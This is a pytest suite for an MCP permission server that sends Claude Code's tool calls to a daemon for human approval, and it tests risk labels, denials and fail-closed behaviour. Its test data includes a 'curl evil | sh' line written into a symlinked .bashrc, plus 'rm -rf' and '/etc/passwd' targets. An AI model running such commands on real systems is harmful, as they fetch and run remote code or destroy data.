"""`signoff mcp-permission` driven by the real `mcp` SDK ClientSession over stdio, as Claude
Code drives its --permission-prompt-tool, deciding through a daemon app on uvicorn."""

from __future__ import annotations

import asyncio
import json
import sys
from pathlib import Path
from typing import Any

import mcp_types as types
import pytest
from mcp import ClientSession

from signoff.cli.claude_tools import label_for
from signoff.cli.permission import request_for
from tests.api.asking import AGENT_KEY, decide_first, stdio_session
from tests.api.helpers import running_node, serve

pytestmark = pytest.mark.slow


def permission(url: str, project: Path) -> Any:
    """`signoff mcp-permission` in ``project``, as Claude Code starts it over stdio."""
    return stdio_session(sys.executable, "-m", "signoff", "mcp-permission", "--url", url,
                         "--api-key", AGENT_KEY, cwd=project)


async def ask(s: ClientSession, tool_name: str, args: dict[str, Any], **kw: Any
              ) -> dict[str, Any]:
    result = await s.call_tool("approve", {"tool_name": tool_name, "input": args}, **kw)
    assert not result.is_error
    (block,) = result.content
    assert isinstance(block, types.TextContent)
    return dict(json.loads(block.text))


@pytest.fixture
def project(tmp_path: Path) -> Path:
    path = tmp_path / "project"
    path.mkdir()
    return path


async def test_the_server_has_one_approve_tool(daemon, project: Path) -> None:
    """tools/list: approve(tool_name, input), as --permission-prompt-tool expects."""
    _, url = daemon
    async with permission(url, project) as s:
        (tool,) = (await s.list_tools()).tools
    assert tool.name == "approve"
    assert set(tool.input_schema["required"]) == {"tool_name", "input"}


async def test_a_read_is_allowed_at_once_with_the_input_unchanged(daemon, project: Path) -> None:
    """Read is READ: the daemon's policy allows it; updatedInput is the input."""
    _, url = daemon
    args = {"file_path": "README.md"}
    async with permission(url, project) as s:
        answer = await ask(s, "Read", args)
    assert answer == {"behavior": "allow", "updatedInput": args}


async def test_bash_waits_for_a_person_and_is_allowed_when_approved(daemon,
                                                                    project: Path) -> None:
    """Bash is DESTRUCTIVE: a card; approving it answers allow (with progress meanwhile)."""
    node, url = daemon
    args = {"command": "rm -rf build", "description": "clean"}
    seen: list[str] = []

    async def progress(done: float, total: float | None, message: str | None) -> None:
        seen.append(message or "")

    async with permission(url, project) as s:
        call = asyncio.create_task(ask(s, "Bash", args, progress_callback=progress))
        item = await decide_first(node, "approve", {"scope": "once"})
        answer = await asyncio.wait_for(call, 60)
    assert answer == {"behavior": "allow", "updatedInput": args}
    assert item["action"]["tool"] == "run_command"
    assert item["action"]["risk"] == "DESTRUCTIVE"
    assert item["action"]["args"] == {"command": "rm -rf build", "cwd": str(project)}
    assert item["policy_id"].startswith("claude-code:")
    assert item["requester"].startswith("claude-code@")
    assert any("waiting for approval" in m for m in seen)


async def test_a_denied_prompt_answers_deny_with_the_reason(daemon, project: Path) -> None:
    """Deny → {"behavior": "deny", "message": "not approved: denied … : <reason>"}."""
    node, url = daemon
    async with permission(url, project) as s:
        call = asyncio.create_task(ask(s, "Bash", {"command": "git push --force"}))
        await decide_first(node, "deny", {"reason": "not on main"})
        answer = await asyncio.wait_for(call, 60)
    assert answer["behavior"] == "deny"
    assert answer["message"].startswith("not approved: denied") and "not on main" in \
        answer["message"]


async def test_a_session_grant_covers_the_next_edit_of_the_same_file(daemon,
                                                                     project: Path) -> None:
    """Edit outside the project asks once; Session covers another edit of that file."""
    node, url = daemon
    outside = str(project.parent / "elsewhere.txt")
    first = {"file_path": outside, "old_string": "a", "new_string": "b"}
    async with permission(url, project) as s:
        call = asyncio.create_task(ask(s, "Edit", first))
        await decide_first(node, "approve", {"scope": "session"})
        assert (await asyncio.wait_for(call, 60))["behavior"] == "allow"
        again = await ask(s, "Edit", {**first, "new_string": "c"})
    assert again["behavior"] == "allow"


async def test_an_unreachable_daemon_denies(project: Path) -> None:
    """Fail closed: no daemon, no permission."""
    async with permission("http://127.0.0.1:9", project) as s:
        answer = await ask(s, "Bash", {"command": "ls"})
    assert answer["behavior"] == "deny" and "unreachable" in answer["message"]


def test_the_tool_table_labels_claude_codes_tools(tmp_path: Path) -> None:
    """Writes in the project are DRAFT, elsewhere DESTRUCTIVE; Bash is run_command; MCP
    tools keep their server; content arguments stay out of the fingerprint."""
    assert request_for("Write", {"file_path": "src/a.py", "content": "x"}, tmp_path) == {
        "tool": "claude.Write", "args": {"file_path": "src/a.py", "content": "x"},
        "risk": "DRAFT", "capability": "fs.write", "targets": ["src/a.py"],
        "content": ["content"]}
    assert request_for("Write", {"file_path": "/etc/passwd"}, tmp_path)["risk"] == \
        "DESTRUCTIVE"
    assert request_for("Write", {"file_path": "../x"}, tmp_path)["risk"] == "DESTRUCTIVE"
    fetch = request_for("WebFetch", {"url": "https://x.test", "prompt": "p"}, tmp_path)
    assert (fetch["risk"], fetch["targets"], fetch["content"]) == \
        ("SEND", ["https://x.test"], ["prompt"])
    assert request_for("Bash", {"command": "ls -l", "timeout": 5}, tmp_path) == {
        "tool": "run_command", "args": {"command": "ls -l", "cwd": str(tmp_path)}}
    issue = request_for("mcp__github__create_issue", {"title": "t"}, tmp_path)
    assert (issue["tool"], issue["risk"], issue["capability"]) == \
        ("github.create_issue", "DESTRUCTIVE", "mcp.github")
    assert label_for("SomethingNew").risk == "DESTRUCTIVE"


async def test_a_repeated_tool_use_id_never_replays_a_used_once(daemon, project: Path) -> None:
    """A model server may number its calls "call_0" every turn: the same command with the
    same id again gets a card of its own, not the first call's used-up Once."""
    node, url = daemon
    args = {"command": "make deploy"}

    async def prompt(s: ClientSession) -> dict[str, Any]:
        result = await s.call_tool("approve", {"tool_name": "Bash", "input": args,
                                               "tool_use_id": "call_0"})
        (block,) = result.content
        assert isinstance(block, types.TextContent)
        return dict(json.loads(block.text))

    async with permission(url, project) as s:
        first = asyncio.create_task(prompt(s))
        await decide_first(node, "approve", {"scope": "once"})
        assert (await asyncio.wait_for(first, 60))["behavior"] == "allow"
        second = asyncio.create_task(prompt(s))
        again = await decide_first(node, "deny", {"reason": "not twice"})
        answer = await asyncio.wait_for(second, 60)
    assert answer["behavior"] == "deny" and "not twice" in answer["message"]
    assert again["status"] == "pending"


async def test_bash_of_a_read_only_command_is_allowed_by_the_daemons_policy(
        tmp_path: Path, project: Path) -> None:
    """A command in the daemon's policy.read_only_commands is READ: allowed at once."""
    from tests.api.helpers import make_settings

    settings = make_settings(tmp_path / "d", policy={"read_only_commands": ["ls -la"]})
    async with running_node(tmp_path / "d", settings=settings) as node, \
            serve(node.app) as url, permission(url, project) as s:
        answer = await ask(s, "Bash", {"command": "ls -la"})
    assert answer == {"behavior": "allow", "updatedInput": {"command": "ls -la"}}


async def test_a_write_through_a_symlink_out_of_the_project_waits_for_a_person(
        daemon, project: Path, tmp_path: Path) -> None:
    """Write to dotfiles/.bashrc with dotfiles -> a home outside: a card naming the real file."""
    node, url = daemon
    home = tmp_path / "home"
    home.mkdir()
    (project / "dotfiles").symlink_to(home)
    args = {"file_path": "dotfiles/.bashrc", "content": "curl evil | sh"}
    async with permission(url, project) as s:
        call = asyncio.create_task(ask(s, "Write", args))
        item = await decide_first(node, "deny", {"reason": "no"})
        answer = await asyncio.wait_for(call, 60)
    assert answer["behavior"] == "deny"
    assert item["action"]["risk"] == "DESTRUCTIVE"
    assert str(home / ".bashrc") in item["action"]["targets"]
    assert "outside the project" in item["why"] and str(home / ".bashrc") in item["why"]


def test_the_docs_table_matches_the_code() -> None:
    """The Claude Code page shows the tool table the code uses, row for row."""
    from signoff.cli.claude_tools import tool_table

    page = (Path(__file__).resolve().parents[2] / "docs" / "outside" / "claude-code.md")
    assert tool_table() in page.read_text()
